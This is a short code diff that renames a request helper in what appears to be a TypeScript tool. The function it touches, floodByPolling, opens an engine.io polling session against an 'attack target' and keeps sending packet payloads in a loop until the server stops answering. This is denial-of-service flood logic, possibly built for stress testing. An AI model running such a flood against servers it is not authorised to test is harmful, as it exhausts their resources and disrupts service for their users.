@@ -14,7 +14,7 @@ const PAYLOADS = ['3', '40/unknown,'].map((packet) => {
 });
 
 /** @returns the body, or null for anything but 200 */
-const ask = (target: AttackTarget, query: string, signal: AbortSignal, body?: string) =>
+const call = (target: AttackTarget, query: string, signal: AbortSignal, body?: string) =>
   new Promise<string | null>((resolve) => {
     const fail = () => resolve(null);
     const request = http.request(
@@ -38,7 +38,7 @@ export async function floodByPolling(
   signal: AbortSignal,
   count: FloodCount,
 ): Promise<void> {
-  const opened = await ask(target, '', signal);
+  const opened = await call(target, '', signal);
   const sid = opened && /"sid":"([^"]+)"/.exec(opened)?.[1];
   if (!sid) {
     if (!signal.aborted) count.refused();
@@ -47,7 +47,7 @@ export async function floodByPolling(
   count.opened();
   for (let i = 0; !signal.aborted; i++) {
     const { packets, text } = PAYLOADS[i % PAYLOADS.length] ?? { packets: 0, text: '' };
-    if ((await ask(target, `&sid=${sid}`, signal, text)) === null) break;
+    if ((await call(target, `&sid=${sid}`, signal, text)) === null) break;
     count.sent(packets);
   }
   if (!signal.aborted) count.cut();
